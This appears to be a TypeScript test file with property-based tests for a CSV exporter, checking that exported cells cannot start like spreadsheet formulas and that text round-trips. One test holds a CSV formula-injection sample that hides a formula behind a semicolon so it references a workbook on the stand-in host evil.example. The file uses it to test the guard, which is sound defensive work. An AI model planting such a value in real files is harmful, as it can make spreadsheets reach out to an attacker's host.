import fc from 'fast-check';
import { expect, it } from 'vitest';
import { openSheet } from '~/imports/formats/open-sheet';
import { withoutGuards } from '~/imports/rows/headings';
import { toImportCsv, toSpreadsheetCsv } from '~/fields/csv-text';
import { collect } from '../../support/collect';
import { writeWorkbook } from '../../support/sheet-files';

const SEPARATORS = [';', ',', '\t', '|'];
const separator = fc.constantFrom(...SEPARATORS);

/** All texts, with those characters often that separators, quotes and formulas are made of. */
const text = fc.string({
  unit: fc.oneof(
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        ...Array.from(';,|\t\r\n\'"=+-@＝＋－＠ \u00a0\u200b\0\x1a\uFEFFx1'),
      ),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
  ),
});
/** The last cell keeps a row from being a blank one, which readers leave out. */
const rows = fc.array(fc.tuple(text, text, fc.constant('end')), { minLength: 1 });

async function read(content: string | Buffer) {
  const { rowChunks } = await openSheet(Buffer.from(content), { findTable: () => null });
  return (await collect(rowChunks())).flat().map(({ cells }) => cells.map(withoutGuards));
}

/**
 * Returns every text that a program with this separator could take for a cell: each text after a
 * separator or a line break, however the program treats quotes, blanks and invisible characters.
 */
function possibleCells(file: string, by: string): string[] {
  const parts = file.split(/\r|\n/).flatMap((line) => line.split(by));
  return parts.map((part) => part.replace(/^[\s"\p{Cc}\p{Cf}]+/u, ''));
}

it('no cell of a file for spreadsheets begins like a formula, with whatever separator it is opened', () => {
  fc.assert(
    fc.property(rows, separator, (cells, delimiter) => {
      const file = toSpreadsheetCsv(cells, delimiter);
      const formulas = SEPARATORS.flatMap((by) => possibleCells(file, by)).filter((cell) =>
        /^[=+\-@＝＋－＠]/.test(cell),
      );
      expect(formulas).toEqual([]);
    }),
    { numRuns: 1_000 },
  );
});

it('every text comes back from a file for spreadsheets as it was', async () => {
  await fc.assert(
    fc.asyncProperty(rows, separator, async (cells, delimiter) => {
      expect(await read(toSpreadsheetCsv(cells, delimiter))).toEqual(cells);
    }),
    { numRuns: 1_000 },
  );
});

it('and from one for the import', async () => {
  await fc.assert(
    fc.asyncProperty(rows, async (cells) => {
      expect(await read(toImportCsv(cells))).toEqual(cells);
    }),
    { numRuns: 1_000 },
  );
});

it('a formula behind a separator of another system is guarded', () => {
  const attack = "Tower;='\\\\evil.example\\s\\[a.xlsx]S'!A1;x";
  expect(toSpreadsheetCsv([['a', attack]], ',')).toBe(
    `\uFEFF"a","Tower;'='\\\\evil.example\\s\\[a.xlsx]S'!A1;x"\r\n`,
  );
});

it('a file for the import holds numbers and formulas as they are: no other reader takes guards off', () => {
  expect(toImportCsv([['-1', '=1', "'=1", "it's"]])).toBe(`\uFEFF"-1","=1","''=1","it's"\r\n`);
});

it('guards come off when the file was saved as a workbook', async () => {
  const cells = ['-1', '+41 44 123 45 67', "it's"];
  const guarded = ["'-1", "'+41 44 123 45 67", "it's"];
  expect(toSpreadsheetCsv([cells], ',')).toContain(guarded.map((cell) => `"${cell}"`).join(','));
  for (const format of ['xlsx', 'biff8'] as const) {
    expect(await read(writeWorkbook({ Rejected: [guarded] }, format))).toEqual([cells]);
  }
});
